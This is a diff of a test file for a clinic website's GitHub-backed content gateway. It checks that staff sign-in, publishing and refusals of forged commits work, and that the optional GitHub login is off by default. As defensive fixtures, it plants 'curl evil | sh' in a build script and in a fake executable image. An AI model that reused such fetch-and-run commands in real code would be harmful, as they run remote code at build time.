@@ -10,8 +10,11 @@
  *   expired session asks to sign in again and the publication goes on; GitHub down gets a Portuguese message and
  *   leaves the repository as it was; the staff's guide is one link away; signing out forgets the session and ends
  *   Access's sign-in.
- * - The developer's GitHub login (src/server/githubLogin.ts): the OAuth handshake, a forged or missing state never
- *   gets a token, and the built editor at /admin/?login=github logs in through the site's own functions.
+ *   A branch update goes only to a commit the gateway made for the same person; `/API/GITHUB/...` is refused; and with
+ *   the counting's daily ceiling reached by anyone (a second runtime of the same host), a staff member still publishes.
+ * - The developer's GitHub login (src/server/githubLogin.ts): off (404) without `GITHUB_LOGIN=enabled`; the OAuth
+ *   handshake, a forged or missing state never gets a token, and the built editor at /admin/?login=github logs in
+ *   through the site's own functions.
  */
 import assert from "node:assert/strict";
 import { generateKeyPairSync } from "node:crypto";
@@ -45,6 +48,9 @@ const staff = { email: "recepcao@clinica.example", name: "Ana da Recepção" };
 let access;
 let github;
 let site;
+/** A second runtime: the GitHub login left off, and the counting's daily ceiling at a few rows. */
+let plain;
+const plainCountingCeiling = 4;
 let browser;
 let editorSession;
 
@@ -65,29 +71,37 @@ before(async () => {
     app,
     repository: { ...repository, files: await repositoryFiles(await contentPaths()) },
   });
-  site = await startPagesDev({
-    port: await freePort(),
-    bindings: {
-      GITHUB_CLIENT_ID: oauth.clientId,
-      GITHUB_CLIENT_SECRET: oauth.clientSecret,
-      GITHUB_OAUTH_URL: github.url,
-      ...access.bindings,
-      GITHUB_APP_ID: app.id,
-      GITHUB_APP_INSTALLATION_ID: app.installationId,
-      GITHUB_APP_PRIVATE_KEY: appKeys.privateKey,
-      GITHUB_API_URL: github.url,
-      EDITOR_SESSION_SECRET: sessionSecret,
-      VITE_CMS_REPO: `${repository.owner}/${repository.name}`,
-      VITE_CMS_BRANCH: repository.branch,
-    },
-  });
-  browser = await launchChromium();
+  const settings = {
+    GITHUB_CLIENT_ID: oauth.clientId,
+    GITHUB_CLIENT_SECRET: oauth.clientSecret,
+    GITHUB_OAUTH_URL: github.url,
+    ...access.bindings,
+    GITHUB_APP_ID: app.id,
+    GITHUB_APP_INSTALLATION_ID: app.installationId,
+    GITHUB_APP_PRIVATE_KEY: appKeys.privateKey,
+    GITHUB_API_URL: github.url,
+    EDITOR_SESSION_SECRET: sessionSecret,
+    VITE_CMS_REPO: `${repository.owner}/${repository.name}`,
+    VITE_CMS_BRANCH: repository.branch,
+  };
+  [site, plain, browser] = await Promise.all([
+    startPagesDev({
+      port: await freePort(),
+      bindings: { ...settings, GITHUB_LOGIN: "enabled" },
+    }),
+    // The same host without GITHUB_LOGIN (its two secrets set all the same), and a counting ceiling soon reached.
+    startPagesDev({
+      port: await freePort(),
+      bindings: { ...settings, EVENTS_DAILY_ROWS: String(plainCountingCeiling) },
+    }),
+    launchChromium(),
+  ]);
   ({ module: editorSession } = await runnerImport("./src/server/editorSession.ts"));
 });
 
 after(async () => {
   await browser?.close();
-  await site?.close();
+  await Promise.all([site?.close(), plain?.close()]);
   await github?.close();
   await access?.close();
 });
@@ -212,27 +226,58 @@ describe("the e-mail sign-in and the content gateway", () => {
     const outside = github.commitBeside({
       "package.json": '{"scripts":{"build":"curl evil | sh"}}',
     });
+    // A commit made through the gateway, by the staff member of `as` (a JWT and a session), of the tree `tree`.
+    const commitThroughGateway = async (tree, as = { jwt, session }) => {
+      const response = await gateway(`${repo}/git/commits`, {
+        method: "POST",
+        ...as,
+        body: { message: "Pelo editor", tree, parents: [headBefore] },
+      });
+      assert.equal(response.status, 201, "the gateway made the commit");
+      return (await response.json()).sha;
+    };
+    const treeOf = (commit) => github.commit(commit).tree;
+    // Commits made through the gateway whose trees were made outside it: an allowed path, but not a plain file.
+    const symlink = await commitThroughGateway(
+      treeOf(
+        github.commitBeside({ "src/content/home.json": "../../package.json" }, "Um atalho", {
+          "src/content/home.json": "120000",
+        }),
+      ),
+    );
+    const submodule = await commitThroughGateway(
+      treeOf(
+        github.commitBeside(
+          { "src/content/artigos/modulo.json": "0123456789abcdef0123456789abcdef01234567" },
+          "Um submódulo",
+          { "src/content/artigos/modulo.json": "160000" },
+        ),
+      ),
+    );
+    const executable = await commitThroughGateway(
+      treeOf(
+        github.commitBeside(
+          { "src/images/foto-executavel.png": "#!/bin/sh\ncurl evil | sh\n" },
+          "Um programa",
+          { "src/images/foto-executavel.png": "100755" },
+        ),
+      ),
+    );
+    // Content only, but made elsewhere (a fork, another tool): it never passed the gateway or its ceiling.
+    const contentChange = { "src/content/home.json": '{"hero":{"title":"Feito fora do editor"}}' };
+    const madeElsewhere = github.commitBeside(contentChange, "Feito fora do editor");
+    // Content only, made through the gateway, but by another staff member.
+    const other = { email: "outra@clinica.example", name: "Outra" };
+    const otherJwt = await access.mint(other);
+    const otherCommit = await commitThroughGateway(
+      treeOf(github.commitBeside(contentChange, "Da outra pessoa")),
+      { jwt: otherJwt, session: (await signIn(otherJwt)).token },
+    );
     const writes = () =>
       github.requests.filter(({ method, path }) => method !== "GET" && path.startsWith("/repos/"))
         .length;
     const writesBefore = writes();
     const update = (sha) => ({ method: "PATCH", jwt, session, body: { sha } });
-    // Commits whose trees were made outside the gateway: an allowed path, but not a plain file.
-    const symlink = github.commitBeside(
-      { "src/content/home.json": "../../package.json" },
-      "Um atalho",
-      { "src/content/home.json": "120000" },
-    );
-    const submodule = github.commitBeside(
-      { "src/content/artigos/modulo.json": "0123456789abcdef0123456789abcdef01234567" },
-      "Um submódulo",
-      { "src/content/artigos/modulo.json": "160000" },
-    );
-    const executable = github.commitBeside(
-      { "src/images/foto-executavel.png": "#!/bin/sh\ncurl evil | sh\n" },
-      "Um programa",
-      { "src/images/foto-executavel.png": "100755" },
-    );
 
     const attempts = [
       ["no Access JWT", `${repo}/branches/main`, { session }, 401],
@@ -306,18 +351,21 @@ describe("the e-mail sign-in and the content gateway", () => {
         `${repo}/git/refs/heads/main`,
         update(symlink),
         403,
+        /só publica arquivos comuns/,
       ],
       [
         "a branch update to a submodule at an allowed path",
         `${repo}/git/refs/heads/main`,
         update(submodule),
         403,
+        /só publica arquivos comuns/,
       ],
       [
         "a branch update to an executable at an allowed path",
         `${repo}/git/refs/heads/main`,
         update(executable),
         403,
+        /só publica arquivos comuns/,
       ],
       [
         "a read of the content model's code by its blob id",
@@ -369,11 +417,25 @@ describe("the e-mail sign-in and the content gateway", () => {
         { method: "PATCH", jwt, session, body: { sha: outside } },
         403,
       ],
+      [
+        "a branch update to a commit made outside the editor, of content files only",
+        `${repo}/git/refs/heads/main`,
+        update(madeElsewhere),
+        403,
+        /não foi preparada neste editor por você/,
+      ],
+      [
+        "a branch update to another person's commit made through the editor",
+        `${repo}/git/refs/heads/main`,
+        update(otherCommit),
+        403,
+        /não foi preparada neste editor por você/,
+      ],
       ["a read of code", `${repo}/git/trees/main:functions`, { jwt, session }, 403],
       ["a read of the whole tree", `${repo}/git/trees/main:`, { jwt, session }, 403],
       ["anything else of GitHub's", "/user/repos", { jwt, session }, 403],
     ];
-    for (const [name, path, options, status] of attempts) {
+    for (const [name, path, options, status, said] of attempts) {
       const response = await gateway(path, options);
       assert.equal(response.status, status, name);
       const { message } = await response.json();
@@ -381,6 +443,7 @@ describe("the e-mail sign-in and the content gateway", () => {
         typeof message === "string" && message.length > 10,
         `${name}: a message (${message})`,
       );
+      if (said) assert.match(message, said, name);
       assert.equal(response.headers.get("set-cookie"), null);
     }
     assert.equal(github.head(), headBefore, "the branch did not move");
@@ -390,6 +453,34 @@ describe("the e-mail sign-in and the content gateway", () => {
       (await repositoryFiles(["package.json"]))["package.json"].toString(),
     );
   });
+  it("a case-varied spelling of the API is refused: /API/GITHUB/user, even with a good sign-in and session", async () => {
+    const jwt = await access.mint(staff);
+    const { token: session } = await signIn(jwt);
+    const requestsBefore = github.requests.length;
+    for (const path of [
+      "/API/GITHUB/user",
+      "/Api/Github/user",
+      "/API/GITHUB" + `${repo}/branches/main`,
+    ])
+      for (const headers of [{}, { [accessJwtHeader]: jwt, Authorization: `token ${session}` }]) {
+        const response = await fetch(site.url + path, { headers });
+        assert.equal(response.status, 404, `${path} ${Object.keys(headers).join(" ")}`);
+        assert.doesNotMatch(await response.text(), new RegExp(staff.email));
+      }
+    // Where Access matched paths by case, no JWT would come with these: the functions refuse them themselves.
+    for (const path of [
+      "/API/RESULTS",
+      "/API/EDITOR/IDENTITY",
+      "/API/EDITOR/SESSION",
+      "/API/EVENTS",
+    ]) {
+      const response = await fetch(site.url + path, { redirect: "manual" });
+      assert.ok([401, 404, 405].includes(response.status), `${path}: ${response.status}`);
+      assert.doesNotMatch(await response.text(), /authorization:github:success/);
+    }
+    assert.equal(github.requests.length, requestsBefore, "nothing reached GitHub");
+  });
+
   it("lists only the files the editor may read, and reads their blobs, nothing else", async () => {
     const jwt = await access.mint(staff);
     const { token: session } = await signIn(jwt);
@@ -474,6 +565,50 @@ describe("the e-mail sign-in and the content gateway", () => {
     } finally {
       await capped.close();
     }
+  });
+
+  it("with the counting's daily ceiling reached by anyone, a staff member still publishes", async () => {
+    // What anyone can send to the counting, on the same host and database as the editor.
+    const beacon = () =>
+      fetch(`${plain.url}/api/events`, {
+        method: "POST",
+        headers: { "Content-Type": "application/json", Origin: plain.url },
+        body: JSON.stringify({
+          events: [{ event: "pageview", page: "/links/", source: "direto" }],
+        }),
+      });
+    const statuses = [];
+    for (let sent = 0; sent < 10; sent += 1) statuses.push((await beacon()).status);
+    // Two rows a page view (its count and the ceiling's own): the ceiling of 4 takes two.
+    assert.deepEqual(statuses, [204, 204, ...Array(8).fill(429)]);
+
+    const jwt = await access.mint(staff);
+    const { token: session } = await signIn(jwt, plain.url);
+    const send = (path, method, body) =>
+      gateway(path, { method, jwt, session, body, base: plain.url });
+    const head = github.head();
+    // An article, as it is with one more line at its end: a change no later test minds.
+    const article = "src/content/artigos/catarata.json";
+    const text = `${github.file(article)}\n`;
+    const blob = await send(`${repo}/git/blobs`, "POST", { content: text, encoding: "utf-8" });
+    assert.equal(blob.status, 201);
+    const tree = await send(`${repo}/git/trees`, "POST", {
+      base_tree: head,
+      tree: [{ path: article, mode: "100644", type: "blob", sha: (await blob.json()).sha }],
+    });
+    assert.equal(tree.status, 201);
+    const commit = await send(`${repo}/git/commits`, "POST", {
+      message: "Atualiza um artigo",
+      tree: (await tree.json()).sha,
+      parents: [head],
+    });
+    assert.equal(commit.status, 201);
+    const { sha } = await commit.json();
+    const update = await send(`${repo}/git/refs/heads/main`, "PATCH", { sha });
+    assert.equal(update.status, 200, await update.clone().text());
+    assert.equal(github.head(), sha);
+    assert.equal(github.commit(sha).author.email, staff.email);
+    assert.equal(github.file(article), text);
   });
 
   it("GitHub refusing the App: a Portuguese message, and nothing written", async () => {
@@ -701,6 +836,34 @@ describe("the developer's GitHub login: /api/auth", () => {
     const cookie = response.headers.get("set-cookie") ?? "";
     return { response, cookie, location: new URL(response.headers.get("location") ?? "") };
   }
+
+  it("is off unless the host sets GITHUB_LOGIN=enabled: /api/auth and /api/callback answer 404, its secrets set or not", async () => {
+    const exchangesBefore = github.exchanges.length;
+    const requestsBefore = github.requests.length;
+    for (const path of [
+      "/api/auth?provider=github&site_id=x&scope=repo",
+      `/api/callback?code=${oauth.code}&state=qualquer`,
+    ]) {
+      const response = await fetch(plain.url + path, { redirect: "manual" });
+      assert.equal(response.status, 404, path);
+      assert.equal(response.headers.get("set-cookie"), null, path);
+      assert.equal(response.headers.get("location"), null, path);
+      const html = await response.text();
+      assert.match(
+        html,
+        /O login com o GitHub está desligado neste site\. Entre com o seu e-mail\./,
+      );
+      assert.match(html, /authorization:github:error:/);
+      assert.doesNotMatch(html, new RegExp(oauth.token));
+    }
+    assert.equal(github.exchanges.length, exchangesBefore, "no code was exchanged");
+    assert.equal(github.requests.length, requestsBefore, "nothing was asked of GitHub");
+    // With the setting, the same request starts the login (the tests below).
+    const on = await fetch(`${site.url}/api/auth?provider=github&site_id=x&scope=repo`, {
+      redirect: "manual",
+    });
+    assert.equal(on.status, 302);
+  });
 
   it("sends the window to GitHub's authorize page with the client id, the repo scope and a fresh state", async () => {
     const first = await startLogin();
